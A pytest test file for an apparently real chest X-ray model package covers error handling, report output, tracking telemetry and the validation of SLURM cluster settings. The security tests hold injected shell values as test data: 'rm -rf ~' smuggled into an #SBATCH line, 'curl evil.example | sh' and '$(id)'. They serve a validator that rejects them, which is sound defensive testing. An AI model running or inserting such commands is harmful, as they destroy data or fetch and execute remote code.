"""Round 4: wave 3's surfaces (cluster, tracking, report, localization settings, eval outputs), round 3's
remaining cases and a new user's second hour (issue 33). Each failed before: a traceback, a misleading or
silently wrong result, a value that became a command, a network call nobody asked for."""

from __future__ import annotations

import json
import logging
import math
import os
import subprocess
import sys
from pathlib import Path

import pytest
import timm
import torch

import mxa
from mxa.cli import main
from mxa.files.checkpoint import TrainCheckpoint

CXR = Path(__file__).parent / "data" / "cxr"


# --- round 3's remaining cases ----------------------------------------------------------------------------
def test_a_batch_of_no_image_is_one_clear_error() -> None:
    model = timm.create_model("efficientvit_ml_m0", img_size=64).eval()
    with pytest.raises(ValueError, match=r"the batch holds no image .*x\[None\]"):
        model(torch.zeros(0, 1, 64, 64))


@pytest.mark.parametrize(
    "error",
    [
        RuntimeError("[enforce fail at inline_container.cc:595] . PytorchStreamWriter failed writing file "
                     "data/0: file write failed"),  # torch.save on a full disk
        ValueError('Error while serializing: IoError(Os { code: 28, kind: StorageFull, message: "No space '
                   'left on device" })'),  # safetensors' SafetensorError on a full disk
    ],
)  # fmt: skip
def test_a_full_disk_under_torch_or_safetensors_is_one_error_naming_the_file(tmp_path: Path, error) -> None:
    from mxa.utils.files import atomic_path

    old = tmp_path / "last.pt"
    old.write_text("the earlier checkpoint")
    with pytest.raises(OSError, match=f"could not write {old}: .*earlier content is kept"), atomic_path(old):
        raise error
    assert old.read_text() == "the earlier checkpoint" and sorted(tmp_path.iterdir()) == [old]
    with pytest.raises(KeyError), atomic_path(tmp_path / "x"):  # any other error is raised as it is
        raise KeyError("not a disk problem")


def test_eval_with_ignored_uncertain_labels_and_a_label_left_without_images(tmp_path: Path, capsys) -> None:
    import pandas as pd

    assert main(["make-phantom", "--output", str(tmp_path / "cx"), "--train", "8", "--valid", "12",
                 "--img-size", "64"]) == 0  # fmt: skip
    root = tmp_path / "cx" / "CheXpert-v1.0-small"
    valid = pd.read_csv(root / "valid.csv")
    valid["Lung Opacity"] = -1.0  # every image uncertain: under --policy ignore, none is scored
    valid.to_csv(root / "valid.csv", index=False)
    model = mxa.export_safetensors(
        timm.create_model("efficientvit_ml_m0", img_size=64), tmp_path / "m" / "m.safetensors"
    )
    argv = ["eval", "--checkpoint", str(model), "--data", f"chexpert:{root}", "--policy", "ignore",
            "--bootstrap", "20", "--no-progress", "--json", str(tmp_path / "e.json")]  # fmt: skip
    assert main([*argv, "--thresholds", "youden", "--calibrate", "platt"]) == 0
    out = capsys.readouterr()
    assert "Traceback" not in out.err and "no threshold: Lung Opacity (no scored images)" in out.out
    assert json.loads((tmp_path / "e.json").read_text())["per_label_auc"]["Lung Opacity"] is None


def _run_folder(path: Path, aucs: list[float | None], labels: dict[str, float | None] | None = None) -> Path:
    path.mkdir(parents=True)
    per = labels or {"Edema": 0.7, "Atelectasis": 0.6}
    lines = [
        json.dumps({"epoch": e + 1, "train_loss": 0.5, "val": {"macro_auc": a, "per_label_auc": per}})
        for e, a in enumerate(aucs)
    ]
    (path / "metrics.jsonl").write_text("\n".join(lines).replace("NaN", "NaN") + "\n")
    return path


def test_report_counts_a_copied_run_once_and_warns_of_mixed_label_sets(tmp_path: Path, caplog) -> None:
    import shutil

    from mxa.metrics.report import aggregate_runs

    a = _run_folder(tmp_path / "a", [0.7, 0.8])
    shutil.copytree(a, tmp_path / "copy")
    with caplog.at_level(logging.WARNING, logger="mxa"):
        rep = aggregate_runs([a, tmp_path / "copy"])
    assert rep["metrics"]["macro_auc"]["n"] == 1 and "holds the same run as" in caplog.text
    b = _run_folder(tmp_path / "b", [0.6], {"Edema": 0.7, "Atelectasis": None})
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="mxa"):
        aggregate_runs([a, b])
    assert "macro AUCs average different labels" in caplog.text and "Atelectasis" in caplog.text


def test_report_never_picks_a_nan_epoch_and_writes_valid_json(tmp_path: Path) -> None:
    run = tmp_path / "r"
    run.mkdir()
    recs = [{"epoch": 1, "val": {"macro_auc": 0.6}}, {"epoch": 2, "val": {"macro_auc": float("nan")}}]
    (run / "metrics.jsonl").write_text(
        "\n".join(json.dumps(r) for r in recs) + "\n"
    )  # NaN as Python writes it
    out = tmp_path / "rep.json"
    assert main(["report", str(run), "--json", str(out)]) == 0
    text = out.read_text()
    assert "NaN" not in text and "Infinity" not in text
    assert json.loads(text)["metrics"]["macro_auc"]["mean"] == 0.6  # epoch 1, not the NaN one


def test_metrics_records_are_json_every_reader_takes() -> None:
    from mxa.utils.files import json_text

    text = json_text({"auc": float("nan"), "ci": [0.1, float("inf")], "n": 3})
    assert json.loads(text) == {"auc": None, "ci": [0.1, None], "n": 3}
    json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} is not JSON"))


# --- security: nothing from a settings file becomes a command --------------------------------------------
@pytest.mark.parametrize(
    ("key", "value"),
    [("partition", "gpu\n#SBATCH --wrap=rm -rf ~"), ("account", "lab; curl evil.example | sh"),
     ("partition", "gpu$(id)"), ("account", "a b")],
)  # fmt: skip
def test_slurm_names_are_checked_before_they_reach_the_script(key: str, value: str) -> None:
    from mxa.train.launch import ClusterConfig

    with pytest.raises(ValueError, match=f"{key} must be a SLURM name"):
        ClusterConfig(launcher="submitit", **{key: value})
    ClusterConfig(launcher="submitit", partition="gpu,long-1.x", account="my_lab-2")  # names are fine


def test_a_control_character_in_the_experiment_folder_never_reaches_the_script(tmp_path: Path) -> None:
    from mxa.train.launch import ClusterConfig

    with pytest.raises(ValueError, match="holds a control character"):
        ClusterConfig(launcher="submitit").executor(tmp_path / "a\nb", "mxa-ablate")


def test_ablate_yaml_cluster_values_are_checked_too(tmp_path: Path, capsys) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text('launcher: submitit\ncluster: slurm\npartition: "gpu\\n#SBATCH --x"\n')
    assert main(["ablate", "--config", str(cfg), "--ablate-output", str(tmp_path / "x")]) == 2
    assert "partition must be a SLURM name" in capsys.readouterr().err


# --- the network: only where a remote service is asked for -----------------------------------------------
def test_mlflow_telemetry_is_off_and_a_vanished_run_gets_a_new_one(
    tmp_path: Path, monkeypatch, caplog
) -> None:
    pytest.importorskip("mlflow")
    from mxa.train.tracking import _MLflow

    monkeypatch.delenv("MLFLOW_DISABLE_TELEMETRY", raising=False)
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    ids: dict[str, str] = {}
    first = _MLflow(tmp_path, "run", {"lr": 1.0}, ids)
    assert os.environ["MLFLOW_DISABLE_TELEMETRY"] == "true"
    ids = {"mlflow": "0123456789abcdef0123456789abcdef"}  # tracking.json names a run the store lacks
    with caplog.at_level(logging.WARNING, logger="mxa"):
        again = _MLflow(tmp_path, "run", {"lr": 1.0}, ids)
    assert again.run_id not in (first.run_id, "0123456789abcdef0123456789abcdef")
    assert "is gone from" in caplog.text
    again.scalars({"loss": 1.0}, step=1)  # logs to the new run: no "Run ... not found"


# --- misleading results -----------------------------------------------------------------------------------
def test_a_job_of_several_tasks_is_collected_with_all_its_results() -> None:
    from mxa.train.launch import _wait_for

    class TwoTasks:  # submitit's job of tasks_per_node=2: result() refuses, results() answers
        def result(self) -> None:
            raise ValueError("You should use results()")

        def results(self) -> list[None]:
            return [None, None]

    _wait_for(TwoTasks(), "a run")


def test_a_cluster_rerun_with_other_settings_is_refused_before_any_job(tmp_path: Path, monkeypatch) -> None:
    import dataclasses

    from mxa.train.experiment import Experiment, RunFolderError
    from mxa.train.launch import ClusterConfig, submit_experiment
    from mxa.train.loop import TrainConfig

    base = TrainConfig(model="efficientvit_ml_m0", img_size=64, epochs=1, train_samples=16, val_samples=8)
    exp = Experiment(base, tmp_path / "exp", teacher="none")
    first = exp.run_config(exp.variants[0], 0, "none")
    old = dataclasses.replace(first, epochs=2)  # the folder holds a run of other settings
    TrainCheckpoint(model_name="efficientvit_ml_m0", model={}, config=old.to_dict(), epoch=2).save(
        Path(first.output) / "last.pt"
    )
    monkeypatch.setattr(ClusterConfig, "executor", lambda *a, **k: pytest.fail("a job was submitted"))
    with pytest.raises(RunFolderError, match="holds a run of other settings \\(epochs\\)"):
        submit_experiment(exp, ClusterConfig(launcher="submitit", cluster="local"))


def test_the_resume_hint_is_quoted_and_names_the_command_that_continues(tmp_path: Path) -> None:
    import shlex

    from mxa.train.loop import CONTINUE_HINT, continue_hint

    last = tmp_path / "my runs" / "last.pt"
    hint = continue_hint(last)
    assert shlex.split(hint) == ["mxa", "train", "--resume", str(last)]
    token = CONTINUE_HINT.set("the same mxa demo command again")
    try:
        assert continue_hint(last) == "the same mxa demo command again"
    finally:
        CONTINUE_HINT.reset(token)


def test_the_demo_stopped_says_to_run_the_demo_again(tmp_path: Path, monkeypatch) -> None:
    from mxa.demo import demo_experiment
    from mxa.train import experiment
    from mxa.train.loop import continue_hint

    demo = demo_experiment(quick=True, output=tmp_path / "demo")
    assert demo.command == "mxa demo --quick"
    said = []
    monkeypatch.setattr(experiment, "train_or_continue", lambda cfg: said.append(continue_hint(Path("x"))))
    exp = experiment.Experiment(demo.base, tmp_path / "e", teacher="none", command=demo.command)
    experiment.run_experiment(exp)
    assert said and set(said) == {"the same mxa demo --quick command again"}
    assert continue_hint(Path("x")) == "mxa train --resume x"  # outside the experiment: mxa train's own


def test_preresize_takes_the_pngs_of_a_phantom_set_and_refuses_a_folder_without_images(
    tmp_path: Path, capsys
) -> None:
    assert main(["make-phantom", "--output", str(tmp_path / "cx"), "--train", "4", "--valid", "2",
                 "--img-size", "64"]) == 0  # fmt: skip
    src = tmp_path / "cx" / "CheXpert-v1.0-small"
    assert main(["preresize", "--src", str(src), "--dst", str(tmp_path / "small"), "--size", "32",
                 "--workers", "1"]) == 0  # fmt: skip
    assert "6 images resized" in capsys.readouterr().out
    small = sorted((tmp_path / "small").rglob("*.png"))
    assert len(small) == 6 and (tmp_path / "small" / "boxes_train.json").is_file()
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / "train.csv").write_text((src / "train.csv").read_text())
    assert main(["preresize", "--src", str(tmp_path / "empty"), "--dst", str(tmp_path / "e2")]) == 2
    assert "no image" in capsys.readouterr().err


# --- silently wrong numbers --------------------------------------------------------------------------------
def test_an_image_listed_twice_in_a_box_file_keeps_both_findings(tmp_path: Path, caplog) -> None:
    from mxa.data.chexpert import _read_boxes

    csv = tmp_path / "valid.csv"
    csv.write_text("Path\n")
    (tmp_path / "boxes_valid.json").write_text(
        '{"a.png": {"Edema": [0.1, 0.1, 0.3, 0.3]}, "a.png": {"Fracture": [0.5, 0.5, 0.6, 0.6], '
        '"Edema": [0.1, 0.1, 0.5, 0.5]}}'
    )
    with caplog.at_level(logging.WARNING, logger="mxa"):
        boxes = _read_boxes(csv, ["a.png"])
    labels = mxa.data.labels.CHEXPERT_LABELS
    assert boxes[0, labels.index("Fracture")].tolist() == pytest.approx([0.5, 0.5, 0.6, 0.6])
    assert boxes[0, labels.index("Edema")].tolist() == pytest.approx([0.1, 0.1, 0.5, 0.5])  # the larger
    assert "more than once" in caplog.text


def test_accumulation_longer_than_an_epoch_is_refused_before_training(tmp_path: Path) -> None:
    from mxa.train.loop import TrainConfig, train

    cfg = TrainConfig(model="efficientvit_ml_m0", img_size=64, epochs=1, train_samples=32, val_samples=8,
                      batch_size=16, accum_steps=3, progress=False, output=str(tmp_path / "r"))  # fmt: skip
    with pytest.raises(ValueError, match="--accum-steps 3 is more than the 2 batches of an epoch"):
        train(cfg)
    assert not (tmp_path / "r" / "best.pt").exists()


def test_predict_with_a_model_of_other_outputs_writes_its_own_columns(tmp_path: Path, caplog) -> None:
    from mxa.predict import predict_files

    model = timm.create_model("resnet18", num_classes=5).eval()  # an RGB ImageNet-style classifier
    with caplog.at_level(logging.WARNING, logger="mxa"):
        res = predict_files([CXR / "00000001_000.png"], out=tmp_path / "p.csv", model=model)
    head, row = (tmp_path / "p.csv").read_text().splitlines()[:2]
    assert head.split(",") == ["path", *(f"output_{i}" for i in range(5))]
    assert len(row.split(",")) == 6 and res.n_predicted == 1 and "no label names" in caplog.text


# --- a new user's second hour ------------------------------------------------------------------------------
def test_a_phantom_model_on_real_images_is_warned_about(tmp_path: Path, caplog) -> None:
    model = timm.create_model("efficientvit_ml_m0", img_size=64)
    path = TrainCheckpoint(
        model_name="efficientvit_ml_m0", model_kwargs={"img_size": 64}, model=model.state_dict(),
        config={"data": "phantom", "img_size": 64},
    ).save(tmp_path / "run" / "last.pt")  # fmt: skip
    with caplog.at_level(logging.WARNING, logger="mxa"):
        assert main(["predict", "--checkpoint", str(path), str(CXR / "00000001_000.png"),
                     "--out", str(tmp_path / "p.csv")]) == 0  # fmt: skip
    assert "trained on synthetic phantom X-rays" in caplog.text


def test_dicom_inputs_without_pydicom_stop_before_any_csv(tmp_path: Path, monkeypatch, capsys) -> None:
    import builtins

    real_import = builtins.__import__

    def no_pydicom(name, *args, **kw):
        if name.split(".")[0] == "pydicom":
            raise ImportError("No module named 'pydicom'")
        return real_import(name, *args, **kw)

    monkeypatch.setattr(builtins, "__import__", no_pydicom)
    monkeypatch.delitem(sys.modules, "pydicom", raising=False)
    out = tmp_path / "p.csv"
    argv = [
        "predict",
        "--model",
        "efficientvit_ml_m0",
        str(CXR / "siim_pa_mono2.dcm"),
        str(CXR / "00000001_000.png"),
    ]
    assert main([*argv, "--out", str(out)]) == 2
    assert 'pip install "mxa-attention[dicom]"' in capsys.readouterr().err and not out.exists()


def test_the_epoch_line_says_which_auc_chose_best_pt(caplog) -> None:
    from types import SimpleNamespace

    from mxa.train.loop import _log_epoch

    run = SimpleNamespace(cfg=SimpleNamespace(epochs=3))
    rec = {"epoch": 1, "train_loss": 0.5, "val": {"macro_auc": 0.8}, "train_images_per_s": 10.0}
    with caplog.at_level(logging.INFO, logger="mxa"):
        _log_epoch(run, {**rec, "val_ema": {"macro_auc": 0.7}}, improved=True)
        _log_epoch(run, rec, improved=True)
    assert (
        "EMA 0.7" in caplog.text
        and "(best EMA AUC: best.pt)" in caplog.text
        and "(best: best.pt)" in caplog.text
    )


def test_the_teacher_cache_does_not_describe_a_validation_set_it_does_not_use(caplog) -> None:
    from mxa.distill.cache import cache_teacher_logits

    student = timm.create_model("efficientvit_ml_m0", img_size=64, mxa=False)
    net = timm.create_model("efficientvit_ml_m0", img_size=64, mxa=False).eval()

    def teacher(x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:  # (logits, the labels it knows)
        return net(x), torch.ones(14, dtype=torch.bool)

    with caplog.at_level(logging.INFO, logger="mxa"):
        cache_teacher_logits(teacher, student, data="phantom", train_samples=4, device="cpu", progress=False)
    assert "validation set" not in caplog.text and "train set phantom: 4 images" in caplog.text


def test_the_demo_time_in_help_is_the_committed_demo_s() -> None:
    root = Path(__file__).resolve().parents[1]
    minutes = json.loads((root / "docs" / "results" / "demo.json").read_text())["minutes"]
    help_text = json.loads((root / "src" / "mxa" / "cli" / "help.json").read_text())[""]
    assert f"(about {math.ceil(minutes)} min" in " ".join(help_text.split())


def test_the_prediction_key_names_orange_only_when_an_orange_bar_is_shown() -> None:
    from mxa.viz.roi import _prediction_bars

    titles = []

    class Axis:  # a matplotlib Axes stand-in that keeps the title
        def __getattr__(self, name: str):
            return lambda *a, **k: titles.append(a[0]) if name == "set_title" else None

    p = torch.tensor([0.9, 0.2, 0.1])
    _prediction_bars(Axis(), p, ["a", "b", "c"], torch.tensor([0.0, 0.0, 0.0]), 3)
    _prediction_bars(Axis(), p, ["a", "b", "c"], torch.tensor([1.0, 0.0, 0.0]), 3)
    assert (
        "orange" not in titles[0] and "no true finding" in titles[0] and "orange: a true finding" in titles[1]
    )


def test_each_tracker_has_its_own_extra() -> None:
    import tomllib

    from mxa._optional import _EXTRA_OF

    extras = tomllib.loads((Path(__file__).resolve().parents[1] / "pyproject.toml").read_text())["project"][
        "optional-dependencies"
    ]
    for module, extra in (("tensorboard", "tensorboard"), ("mlflow", "mlflow"), ("wandb", "wandb")):
        assert _EXTRA_OF[module] == extra and len(extras[extra]) == 1
    assert extras["tracking"] == ["mxa-attention[tensorboard,mlflow,wandb]"]


def test_the_package_imports_none_of_the_trackers() -> None:
    # timm.utils imports wandb itself when it is installed: count only what mxa adds to timm
    code = (
        "import sys, timm; before = set(sys.modules); import mxa, mxa.train.tracking; "
        "print(sorted({'mlflow', 'wandb', 'tensorboard'} & (set(sys.modules) - before)))"
    )
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and r.stdout.strip() == "[]", r.stderr[-1000:]
